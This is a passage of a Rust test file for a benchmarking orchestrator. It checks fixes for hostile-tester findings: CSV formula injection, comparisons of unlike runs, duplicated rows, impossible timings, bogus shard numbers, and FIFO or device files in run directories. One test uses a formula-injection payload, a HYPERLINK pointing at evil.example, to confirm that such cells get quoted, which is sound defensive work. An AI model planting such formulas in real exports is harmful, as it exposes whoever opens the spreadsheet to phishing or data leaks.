    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
    assert!(rows.iter().any(|r| r.implementation == "fixture" && r.status == RunStatus::Ok));
}

// ---------------------------------------------------------------------------------------------
// The hostile tester's records findings: CSV injection, compare of unlike runs, a run counted
// twice, implausible times read back

/// Whether a spreadsheet would take `cell` for a formula.
fn formula_like(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !cell.parse::<f64>().is_ok_and(f64::is_finite)
}

/// Every cell of a CSV file, by column name.
fn csv_cells(path: &Path) -> Vec<Vec<(String, String)>> {
    let mut reader = csv::Reader::from_path(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    reader.records().map(|r| header.iter().cloned().zip(r.unwrap().iter().map(str::to_owned)).collect()).collect()
}

fn cell<'a>(row: &'a [(String, String)], column: &str) -> &'a str {
    row.iter().find(|(name, _)| name == column).map_or_else(|| panic!("no column {column}"), |(_, value)| value.as_str())
}

/// Finding 1: a child reporting device `=HYPERLINK(…)` put exactly that in summary.csv's
/// `devices` and raw.csv's `device`, a link for whoever opens them in a spreadsheet. Now every text
/// cell that starts like a formula is written after a single quote (numbers such as -0.5 stay
/// numbers), and raw.csv still reads back to the very text the child wrote.
#[test]
fn a_childs_text_is_never_a_formula_in_any_csv_and_raw_csv_reads_back_exactly() {
    let dir = scratch();
    let device = r#"=HYPERLINK("http://evil.example/?x","click")"#;
    let evil = format!(
        "{{command: [\"{{bin_dir}}/fixture-child\", \"result\", \"{{n}}\", \"{{epochs}}\", \"{{learning_rate}}\", \"--device\", {}]}}",
        serde_json::to_string(device).unwrap()
    );
    let text = format!(
        "name: hostile\ndataset: {{inline: {{x: [1, 2, 3, 4, 5], y: [2, 4, 6, 8, 10]}}}}\n\
         training: {{epochs: 1000, learning_rate: 0.01, fits: 2}}\nimplementations: [fixture, evil]\nbaseline: fixture\n\
         define:\n  fixture: {{command: [\"{{bin_dir}}/fixture-child\", \"result\", \"{{n}}\", \"{{epochs}}\", \"{{learning_rate}}\"]}}\n  evil: {evil}\n"
    );
    let scenario = dir.path().join("hostile.yaml");
    std::fs::write(&scenario, text).unwrap();
    let out_dir = dir.path().join("run");
    let out = run(&scenario, &dir.path().join("results"), 2, &[OsStr::new("--out"), out_dir.as_os_str()]);
    assert_eq!(out.code, Some(0), "{}", out.show());

    let raw = csv_cells(&out_dir.join(records::RAW_CSV));
    let evil_rows: Vec<_> = raw.iter().filter(|r| cell(r, "implementation") == "evil").collect();
    assert_eq!(evil_rows.len(), 2, "{raw:?}");
    assert!(evil_rows.iter().all(|r| cell(r, "device") == format!("'{device}")), "{evil_rows:?}");
    let summary = csv_cells(&out_dir.join("summary.csv"));
    let evil_summary = summary.iter().find(|r| cell(r, "implementation") == "evil").expect("evil's summary row");
    assert_eq!(cell(evil_summary, "devices"), format!("'{device}"));
    for file in [records::RAW_CSV, records::SAMPLES_CSV, "summary.csv"] {
        for row in csv_cells(&out_dir.join(file)) {
            assert!(!row.iter().any(|(_, value)| formula_like(value)), "{file}: {row:?}");
        }
    }
    // Read back, raw.csv gives what the child wrote: a re-rendered report is the same.
    let rows = records::read_raw(&out_dir).unwrap();
    assert!(rows.iter().filter(|r| r.implementation == "evil").all(|r| r.device.as_deref() == Some(device)), "{rows:#?}");
    let before = std::fs::read(out_dir.join("summary.csv")).unwrap();
    let out = orchestrator([OsStr::new("report"), out_dir.as_os_str()]);
    assert_eq!(out.code, Some(0), "{}", out.show());
    assert_eq!(std::fs::read(out_dir.join("summary.csv")).unwrap(), before);

    // Text that starts like a formula anywhere in a row (a hand-made raw.csv, a message from
    // stderr), and a row that starts with the guard itself, come back as they were written.
    let hand = dir.path().join("hand");
    let mut rows = runs(2, 2);
    rows[0].message = "-1+2 from stderr".into();
    rows[1].message = "'=already quoted".into();
    rows[2].device = Some("@SUM(A1)".into());
    write_run(&hand, 2, &rows);
    assert_eq!(records::read_raw(&hand).unwrap(), rows);
    for row in csv_cells(&hand.join(records::RAW_CSV)) {
        assert!(!row.iter().any(|(_, value)| formula_like(value)), "{row:?}");
    }
}

/// The fixture plan asking for 5 runs of `rust` with `fits` fits each, and its rows.
fn write_fits_run(dir: &Path, fits: u64, scale: f64) {
    std::fs::create_dir_all(dir).unwrap();
    let mut plan = plan(&dataset(dir), vec![]);
    plan.scenarios[0].points[0].fits = [("rust".to_string(), fits), ("python-numpy".to_string(), 2)].into();
    records::write_json_atomic(&dir.join(records::PLAN_JSON), &plan).unwrap();
    let rows: Vec<RawRecord> = runs(5, 5)
        .into_iter()
        .map(|r| {
            let k = if r.implementation == "rust" { fits } else { 2 };
            let wall = r.wall_seconds.unwrap() * if r.implementation == "rust" { scale } else { 1.0 };
            RawRecord { fits: Some(k), wall_seconds: Some(wall), user_seconds: Some(wall * 0.9), ..r }
        })
        .collect();
    CsvAppender::open(&dir.join(records::RAW_CSV)).unwrap().append(&rows).unwrap();
}

/// Finding 2: the same scenario with `fits: 2` and `fits: 2000` compared as
/// `wall +3639.8% REGRESSION`, exit 1. Now compare reads both plans: a point measured differently
/// is not comparable, said with what differs, never a regression; with nothing comparable left,
/// the command says so and fails (exit 2).
#[test]
fn compare_never_compares_runs_that_measured_different_things() {
    let dir = scratch();
    let (old, new) = (dir.path().join("fits-2"), dir.path().join("fits-2000"));
    write_fits_run(&old, 2, 1.0);
    write_fits_run(&new, 2000, 37.0);
    let out = orchestrator([OsStr::new("compare"), old.as_os_str(), new.as_os_str()]);
    assert_eq!(out.code, Some(0), "{}", out.show());
    assert!(!out.stdout.contains("REGRESSION"), "{}", out.show());
    let unlike = out.stdout.lines().find(|l| l.contains("seed") && l.contains("rust:")).unwrap_or_else(|| panic!("{}", out.show()));
    assert!(unlike.contains("fits 2 → 2000"), "{unlike}");
    // The point compared says its K.
    assert!(out.stdout.lines().any(|l| l.contains("python-numpy") && l.contains("fits=2")), "{}", out.show());

    // Only the unlike point: nothing comparable is an error, not a pass.
    let only = |dir: &Path| {
        let kept: Vec<RawRecord> = records::read_raw(dir).unwrap().into_iter().filter(|r| r.implementation == "rust").collect();
        std::fs::remove_file(dir.join(records::RAW_CSV)).unwrap();
        CsvAppender::open(&dir.join(records::RAW_CSV)).unwrap().append(&kept).unwrap();
    };
    only(&old);
    only(&new);
    let out = orchestrator([OsStr::new("compare"), old.as_os_str(), new.as_os_str()]);
    assert_eq!(out.code, Some(2), "{}", out.show());
    assert!(out.stderr.contains("nothing comparable") && out.stderr.contains("fits 2 → 2000"), "{}", out.show());
    assert!(!out.stdout.contains("REGRESSION"), "{}", out.show());

    // An old run without plan.json is compared on what raw.csv records (its rows' fits), and
    // said to be.
    std::fs::remove_file(old.join(records::PLAN_JSON)).unwrap();
    let out = orchestrator([OsStr::new("compare"), old.as_os_str(), new.as_os_str()]);
    assert_eq!(out.code, Some(2), "{}", out.show());
    assert!(out.stderr.contains("no plan.json") && out.stderr.contains("fits 2 → 2000"), "{}", out.show());
}

/// Finding 3: raw.csv with every row three times reported runs = 6 of a plan of 2 repetitions,
/// with narrower CIs and no word. A run (scenario, point, implementation, repetition) counts
/// once: its first row is kept, the others named and left out, by report and compare; merge
/// refuses a shard holding a run twice.
#[test]
fn a_run_written_twice_counts_once_and_a_shard_holding_one_is_refused() {
    let dir = scratch();
    let run_dir = dir.path().join("tripled");
    let rows = runs(2, 2);
    write_run(&run_dir, 2, &[rows.clone(), rows.clone(), rows.clone()].concat());
    let out = orchestrator([OsStr::new("report"), run_dir.as_os_str()]);
    assert_eq!(out.code, Some(0), "{}", out.show());
    assert_eq!(summary_runs(&run_dir), vec![("rust".into(), 2), ("python-numpy".into(), 2)]);
    // Lines 6–13 copy lines 2–5.
    let warning = out.stderr.lines().find(|l| l.contains("line 6:")).unwrap_or_else(|| panic!("{}", out.show()));
    assert!(warning.contains("a copy of line 2") && warning.contains("counts once"), "{warning}");
    assert_eq!(out.stderr.matches("counts once").count(), 8, "{}", out.show());
    assert!(first_screen(&run_dir).contains("8 row(s) of raw.csv are left out of every statistic"), "{}", first_screen(&run_dir));

    // compare reads it the same way.
    let whole = dir.path().join("whole");
    write_run(&whole, 2, &rows);
    let out = orchestrator([OsStr::new("compare"), whole.as_os_str(), run_dir.as_os_str()]);
    assert!(out.stderr.contains("a copy of line 2"), "{}", out.show());

    // merge refuses it, naming the shard and the row, before writing anything.
    let shards = write_shards(dir.path());
    let second = point_rows(1);
    CsvAppender::open(&shards[1].join(records::RAW_CSV)).unwrap().append(&second[1..2]).unwrap();
    let merged = dir.path().join("merged");
    let out = merge(&shards, &merged);
    assert_eq!(out.code, Some(2), "{}", out.show());
    let shard = shards[1].display().to_string();
    assert!(out.stderr.contains(&shard) && out.stderr.contains("line 6: a copy of line 3"), "{}", out.show());
    assert!(!merged.join(records::RAW_CSV).exists(), "the merge wrote its output");
}

/// Finding 4: train_seconds and load_seconds edited to 1e300 gave a start-up of `-2.00e300 s` and
/// `-2.28e305%` (a time that long is now set aside for itself: absurd_but_finite_magnitudes…).
/// Read back, a row whose load + train exceed its wall time (the check a live run gets) is named
/// and left out of every statistic; merge keeps it in the merged raw.csv.
#[test]
fn a_row_claiming_more_time_than_its_wall_time_is_left_out_when_read_back() {
    let dir = scratch();
    let run_dir = dir.path().join("run");
    write_run(&run_dir, 5, &runs(5, 5));
    for column in ["load_seconds", "train_seconds"] {
        set_field(&run_dir.join(records::RAW_CSV), 4, column, "1000");
    }
    let out = orchestrator([OsStr::new("report"), run_dir.as_os_str()]);
    assert_eq!(out.code, Some(0), "{}", out.show());
    let warning = out.stderr.lines().find(|l| l.contains("line 4:")).unwrap_or_else(|| panic!("{}", out.show()));
    assert!(warning.contains("load_seconds + train_seconds") && warning.contains("left out"), "{warning}");
    assert_eq!(summary_runs(&run_dir), vec![("rust".into(), 4), ("python-numpy".into(), 5)]);
    let report = std::fs::read_to_string(run_dir.join("report.md")).unwrap();
    // The row is named (its 2000 s), but no figure is made of it.
    assert!(
        !["-2000", "−2000", "-2.00e3", "−2.00e3", "−33.3 min", "-33.3 min"].iter().any(|nonsense| report.contains(nonsense)),
        "{report}"
    );
    assert!(first_screen(&run_dir).contains("1 row(s) of raw.csv are left out of every statistic"), "{}", first_screen(&run_dir));
    assert!(first_screen(&run_dir).contains("or a row is left out for its times (below)"), "{}", first_screen(&run_dir));

    let whole = dir.path().join("whole");
    write_run(&whole, 5, &runs(5, 5));
    let out = orchestrator([OsStr::new("compare"), whole.as_os_str(), run_dir.as_os_str()]);
    assert!(out.stderr.contains("load_seconds + train_seconds"), "{}", out.show());

    let shards = write_shards(dir.path());
    set_field(&shards[0].join(records::RAW_CSV), 2, "train_seconds", "5");
    let merged = dir.path().join("merged");
    let out = merge(&shards, &merged);
    assert_eq!(out.code, Some(0), "{}", out.show());
    assert!(out.stderr.contains("load_seconds + train_seconds"), "{}", out.show());
    assert_eq!(records::read_raw(&merged).unwrap().len(), 8, "a row measured was dropped");
}

// ---------------------------------------------------------------------------------------------
// Round five: what a run directory someone sent holds

/// `orchestrator --root <this project> ARGS` with 1 GiB of address space, stopped (failing the
/// test) when it runs past a minute: a reader that waits for good or eats memory fails the test
/// instead of hanging it or the machine.
fn bounded(args: impl IntoIterator<Item = impl AsRef<OsStr>>, dir: &Path) -> Outcome {
    let mut command = common::orchestrator(args);
    common::limit_memory(&mut command, 1 << 30);
    common::start(command, dir).finish(std::time::Duration::from_secs(60))
}

fn first_error(outcome: &Outcome) -> &str {
    outcome.stderr.lines().find(|l| l.starts_with("error:")).unwrap_or("")
}

/// Sets the value at `pointer` (e.g. `/shard/count`) of a JSON file.
fn set_json(path: &Path, pointer: &str, value: serde_json::Value) {
    let mut json: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    *json.pointer_mut(pointer).unwrap_or_else(|| panic!("no {pointer} in {}", path.display())) = value;
    std::fs::write(path, serde_json::to_string(&json).unwrap()).unwrap();
}

/// Round five, finding 1: a shard's plan.json claiming 4 294 967 295 shards had `merge` list that
/// many missing shards until memory ran out (13 GB; under a limit, an abort), and shard 7 of 2
/// was taken as it stood ("shard 7/2"). A shard's numbers read back are held to the rules of
/// `--shard`, naming the file and the field: in plan.json an error; in environment.json, which a
/// report can go without, a warning and the machine unknown.
#[test]
fn shard_numbers_out_of_range_are_refused_naming_the_file_and_the_field() {
    let dir = scratch();
    let shards = write_shards(dir.path());
    let plan_json = shards[0].join(records::PLAN_JSON);
    let good = std::fs::read_to_string(&plan_json).unwrap();
    let merged = dir.path().join("merged");
    for (pointer, value, want) in [
        ("/shard/count", u64::from(u32::MAX), "shard.count is 4294967295: the shard count must be 1 to 10000"),
        ("/shard/index", 7, "shard.index is 7: there is no shard 7 of 2"),
        ("/shard/partition/1/shard", 3, "shard.partition[1].shard is 3: point seed#1 is given to no shard of the 2"),
    ] {
        std::fs::write(&plan_json, &good).unwrap();
        set_json(&plan_json, pointer, value.into());
        let out = bounded([OsStr::new("merge"), shards[0].as_os_str(), OsStr::new("--out"), merged.as_os_str()], dir.path());
        let want = format!("{}: {want}", plan_json.display());
        assert!(out.code == Some(2) && first_error(&out).contains(&want), "{pointer}: want '{want}':\n{}", out.show());
        assert!(!merged.exists(), "the merge wrote its output");
    }

    let run_dir = dir.path().join("run");
    write_run(&run_dir, 5, &runs(5, 5));
    let environment_json = run_dir.join(records::ENVIRONMENT_JSON);
    let shard = Some(orchestrator::plan::shard::ShardRef { index: 7, count: 2 });
    records::write_json_atomic(&environment_json, &orchestrator::environment::Environment { shard, ..Default::default() }).unwrap();
    let out = bounded([OsStr::new("report"), run_dir.as_os_str()], dir.path());
    let want = format!("warning: {}: shard.index is 7: there is no shard 7 of 2: the machine is unknown", environment_json.display());
    assert!(out.code == Some(0) && out.stderr.contains(&want), "want '{want}':\n{}", out.show());
    let report = std::fs::read_to_string(run_dir.join("report.md")).unwrap();
    assert!(!report.contains("shard 7/2"), "{report}");
}

/// Round five, finding 2: a run directory's files were read without a look at what they are: a
/// FIFO as raw.csv hung every reader for good (the open waits for a writer), environment.json
/// linked to /dev/zero took 7 GB in 9 s. Each reader refuses at once, naming the file and what it
/// is; environment.json and samples.csv, which a report can go without, are warnings there, and
/// merge, which copies every sample, refuses a samples.csv it cannot read.
#[test]
fn a_fifo_or_a_device_in_a_run_directory_is_refused_at_once_by_every_reader() {
    let dir = scratch();
    let (one, two) = (dir.path().join("one"), dir.path().join("two"));
    write_run(&one, 5, &runs(5, 5));
    write_run(&two, 5, &runs(5, 5));
    let shards = write_shards(dir.path());
    for run_dir in [&one, &shards[0]] {
        std::fs::remove_file(run_dir.join(records::RAW_CSV)).unwrap();
        common::mkfifo(&run_dir.join(records::RAW_CSV));
    }
    let out = dir.path().join("out");
    let (o, t, s, u) = (one.as_os_str(), two.as_os_str(), shards[0].as_os_str(), shards[1].as_os_str());
    let cases: [(Vec<&OsStr>, &Path); 4] = [
        (vec![OsStr::new("report"), o], &one),
        (vec![OsStr::new("compare"), t, o], &one),
        (vec![OsStr::new("machines"), t, o, OsStr::new("--out"), out.as_os_str()], &one),
        (vec![OsStr::new("merge"), s, u, OsStr::new("--out"), out.as_os_str()], &shards[0]),
    ];
    for (args, run_dir) in cases {
        let outcome = bounded(&args, dir.path());
        let want = format!("{} is not a regular file (a FIFO)", run_dir.join(records::RAW_CSV).display());
        assert!(outcome.code == Some(2) && first_error(&outcome).contains(&want), "{args:?}: want '{want}':\n{}", outcome.show());
    }

    std::os::unix::fs::symlink("/dev/zero", two.join(records::ENVIRONMENT_JSON)).unwrap();
    common::mkfifo(&two.join(records::SAMPLES_CSV));
    let outcome = bounded([OsStr::new("report"), t], dir.path());
    assert_eq!(outcome.code, Some(0), "{}", outcome.show());
    for want in [
        format!(
            "{} is not a regular file (a character device, through a symbolic link to /dev/zero)",
            two.join(records::ENVIRONMENT_JSON).display()
        ),
        format!("{} is not a regular file (a FIFO)", two.join(records::SAMPLES_CSV).display()),
        "the report goes without samples".to_string(),
    ] {
        assert!(outcome.stderr.lines().any(|l| l.starts_with("warning:") && l.contains(&want)), "want '{want}':\n{}", outcome.show());
    }
    assert!(first_screen(&two).contains("samples.csv was not read"), "{}", first_screen(&two));
    let again = dir.path().join("again");
    std::fs::create_dir(&again).unwrap();
    let shards = write_shards(&again);
    common::mkfifo(&shards[1].join(records::SAMPLES_CSV));
    let outcome =
        bounded([OsStr::new("merge"), shards[0].as_os_str(), shards[1].as_os_str(), OsStr::new("--out"), out.as_os_str()], dir.path());
    let want = format!("{} is not a regular file (a FIFO)", shards[1].join(records::SAMPLES_CSV).display());
    assert!(outcome.code == Some(2) && first_error(&outcome).contains(&want), "want '{want}':\n{}", outcome.show());
}

/// Round five, finding 3: samples.csv was read whole, and merge held every shard's samples at
/// once. A merge copies them a batch at a time (here more than one batch), every sample of every
/// shard, in shard order.
#[test]
fn a_merge_copies_every_sample_of_every_shard() {
    let dir = scratch();
    let shards = write_shards(dir.path());
    let sample = |point: usize, k: u32| SampleRecord {
        scenario: "seed".into(),
        point,
        implementation: "rust".into(),
        repetition: 1,
        t_seconds: f64::from(k) * 1e-3,
        rss_bytes: u64::from(k),
        cpu_seconds: f64::from(k) * 1e-4,
    };
    let written: Vec<Vec<SampleRecord>> = vec![(1..=10_000).map(|k| sample(0, k)).collect(), (1..=3).map(|k| sample(1, k)).collect()];
    for (shard, samples) in shards.iter().zip(&written) {
        CsvAppender::open(&shard.join(records::SAMPLES_CSV)).unwrap().append(samples).unwrap();
    }
    let merged = dir.path().join("merged");
    let out = merge(&shards, &merged);
    assert_eq!(out.code, Some(0), "{}", out.show());
    let mut reader = csv::Reader::from_path(merged.join(records::SAMPLES_CSV)).unwrap();
    let read: Vec<SampleRecord> = reader.deserialize().map(Result::unwrap).collect();
    assert!(read == written.concat(), "{} samples merged of {}", read.len(), written.concat().len());
}
